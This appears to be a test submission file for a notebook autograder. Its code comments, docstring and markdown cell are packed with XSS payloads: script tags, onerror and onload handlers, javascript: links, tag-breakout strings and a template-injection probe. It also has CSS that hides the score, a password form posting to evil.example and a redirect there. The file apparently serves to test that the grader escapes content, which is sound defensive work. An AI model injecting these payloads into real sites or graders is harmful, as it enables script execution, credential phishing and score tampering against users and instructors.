# attack: puts scripts into the written answer and into the solution itself
# points: double=0 total=4
# markup: yes
# %% double
def double(x):
    """</code></pre><script>alert('attack')</script><img src=x onerror=alert('attack')>"""
    return x  # </style></textarea></title><svg onload=alert('attack')>
# %% see
<script>alert('attack')</script> <img src=x onerror=alert('attack')> <iframe src="javascript:alert('attack')"></iframe>
[click](javascript:alert('attack')) ![x](x"onerror="alert('attack')) <svg/onload=alert('attack')> {{ 7 * 7 }} {% raw %}
<style>.score { display: none }</style> <form action="https://evil.example"><input name=password></form>
<meta http-equiv="refresh" content="0;url=https://evil.example">
